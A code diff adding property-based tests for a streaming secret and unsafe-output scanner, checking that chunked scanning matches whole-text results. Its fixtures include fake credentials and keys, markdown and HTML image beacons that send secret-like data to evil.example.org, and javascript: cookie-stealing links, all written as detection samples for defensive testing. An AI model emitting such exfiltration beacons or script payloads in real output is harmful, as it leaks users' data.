@@ -5,6 +5,9 @@ import { dedupe, type Finding } from "./finding.js";
 import { findPii } from "./pii.js";
 import { findSecrets } from "./secrets.js";
 import { StreamScanner } from "./stream.js";
+import { findUnsafeOutput } from "./output.js";
+import { streamHoldBack } from "./pipeline.js";
+import { findMarkedSecrets } from "./redact.js";
 
 const scan = (t: string): Finding[] => dedupe([...findSecrets(t), ...findPii(t)]);
 const key = (f: Finding) => `${f.type}@${f.start}-${f.end}`;
@@ -53,6 +56,109 @@ describe("streaming scan", () => {
       ),
       { numRuns: 150 },
     );
+  });
+});
+
+describe("streaming with the guard's adaptive hold-back", () => {
+  const MARKED = ["project blue heron", "Zx9-internal"];
+  const all = (t: string): Finding[] =>
+    dedupe([
+      ...findSecrets(t),
+      ...findPii(t),
+      ...findUnsafeOutput(t, { allowedHosts: ["docs.example.com"] }),
+      ...findMarkedSecrets(t, MARKED),
+      ...wholeToken(t),
+    ]);
+  // A stand-in for any token-shaped secret that matches only once complete (and is longer than the
+  // minimum hold-back): only the last-run rule keeps it from being cut.
+  const wholeToken = (t: string): Finding[] =>
+    [...t.matchAll(/TOK[0-9a-f]{300}END/g)].map((m) => ({
+      type: "test-token",
+      start: m.index,
+      end: m.index + m[0].length,
+      confidence: 1,
+      kind: "secret" as const,
+    }));
+  // Every finding that can hold whitespace, and token-shaped ones, among ordinary prose.
+  const CONSTRUCTS = [
+    "The answer is simple. ",
+    "Lorem ipsum dolor sit amet, consectetur adipiscing elit. ",
+    "\n\n",
+    "words ",
+    'password = "Tr0ub4dor&3xK9!qLm" ',
+    "db_secret:   Zq8vN2rT5wX7pL4m ",
+    "Authorization: Bearer Zq8vN2rT5wX7pL4mK3sD9fG1hJ6kL0pQ ",
+    "curl -s https://api.example.net/v1 -H 'Accept: x' -u deploy:Zq8vN2rT5wX7 ",
+    "see https://deploy:Zq8vN2rT5wX7@registry.example.net/v2 ",
+    '![pixel](https://evil.example.org/p.png?d=Zq8vN2rT5wX7pL4mK3sD9fG1 "t") ',
+    "[docs](https://docs.example.com/a) ",
+    "[click]( https://evil.example.org/c?q=secret-data ) ",
+    '<img alt="x"  src = "https://evil.example.org/i.png?q=1"> ',
+    "<script   src=x></script> ",
+    '<a  href = "javascript:alert(1)">x</a> ',
+    "[x]( javascript:alert(document.cookie) ) ",
+    "<password>\n  Zq8vN2rT5wX7pL4mK3sD\n</password> ",
+    "apiVersion: v1\nkind: Secret\ndata:\n  password: UzNjcjN0UDRzc3cwcmQ=\n  user: YWRtaW5pc3RyYXRvcg==\n",
+    `-----BEGIN PRIVATE KEY-----\n${"MIIEvQIBADANBgkqhkiG9w0BAQEFAASC".repeat(4)}\n-----END PRIVATE KEY-----\n`,
+    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U ",
+    "ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5 ",
+    "card 4111 1111 1111 1111 ",
+    "IBAN GB82 WEST 1234 5698 7654 32 ",
+    "call +1 415-555-2671 ",
+    "mail jane.doe@example.org ",
+    "codename project blue heron ",
+    "Zx9-internal ",
+    "é中🙂 ",
+    // Longer than the minimum hold-back, so each rule of streamHoldBack is needed (a test removing one fails).
+    `token=eyJhbGciOiJIUzI1NiJ9.eyJ${"c3ViIjoiMTIzNDU2Nzg5MCIsIm5hbWUiOiJKb2huIERvZSJ9".repeat(5)}.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U `,
+    `![chart](https://evil.example.org/c.png?d=${"Zq8vN2rT5wX7pL4m".repeat(12)}   "a title with words") `,
+    `<img class="a b c" alt="${"a long description ".repeat(8)}" src="https://evil.example.org/i.png?q=${"Zq8v".repeat(20)}"> `,
+    `curl -s -X POST https://api.example.net/v1/things -H 'Accept: application/json' -H 'X-Trace: ${"abc ".repeat(30)}' -u deploy:Zq8vN2rT5wX7 `,
+    `api_key = "${"Zq8vN2rT5wX7pL4mK3sD9fG1hJ6kL0pQ".repeat(6)}" `,
+    `sk-ant-api03-${"Qw3Er5Ty7Ui9Op1As3Df5Gh7Jk9Lz1Xc3Vb5Nm7".repeat(3)}AA `,
+    `TOK${"0123456789abcdef".repeat(19).slice(0, 300)}END `,
+  ];
+
+  it("releases the same text and findings as a whole-text scan for any chunking, and never cuts through a finding (property)", () => {
+    const longest = Math.max(...MARKED.map((m) => m.length));
+    fc.assert(
+      fc.property(
+        fc.array(fc.constantFrom(...CONSTRUCTS), { minLength: 1, maxLength: 40 }),
+        fc.array(fc.integer({ min: 1, max: 61 }), { minLength: 1, maxLength: 50 }),
+        (pieces, sizes) => {
+          const text = pieces.join("");
+          const whole = all(text);
+          const stream = new StreamScanner(all, (pending) => streamHoldBack(pending, longest), 16);
+          let released = "";
+          const found: Finding[] = [];
+          let at = 0;
+          for (let i = 0; at < text.length; i++) {
+            const size = sizes[i % sizes.length] as number;
+            const r = stream.push(text.slice(at, at + size));
+            at += size;
+            released += r.text;
+            found.push(...r.findings);
+            for (const f of whole) assert.ok(!(f.start < released.length && f.end > released.length), `${key(f)} cut`);
+          }
+          const last = stream.end();
+          released += last.text;
+          found.push(...last.findings);
+          assert.equal(released, text);
+          assert.deepEqual(found.map(key).sort(), whole.map(key).sort());
+        },
+      ),
+      { numRuns: 300 },
+    );
+  });
+
+  it("streams ordinary prose: all but the last few hundred characters go out before the end", () => {
+    const prose = "The capital of France is Paris, and it has been for centuries. ".repeat(60); // 3,780 chars
+    const stream = new StreamScanner(all, (pending) => streamHoldBack(pending), 256);
+    let before = 0;
+    for (let i = 0; i < prose.length; i += 4) before += stream.push(prose.slice(i, i + 4)).text.length;
+    assert.ok(before >= prose.length - 400, `${before} of ${prose.length} released before the end`);
+    // A link near the end holds back from its "[" until it is complete or out of reach.
+    assert.ok(streamHoldBack(`${prose}see [the docs](https://docs.exa`) > "[the docs](https://docs.exa".length);
   });
 });
 
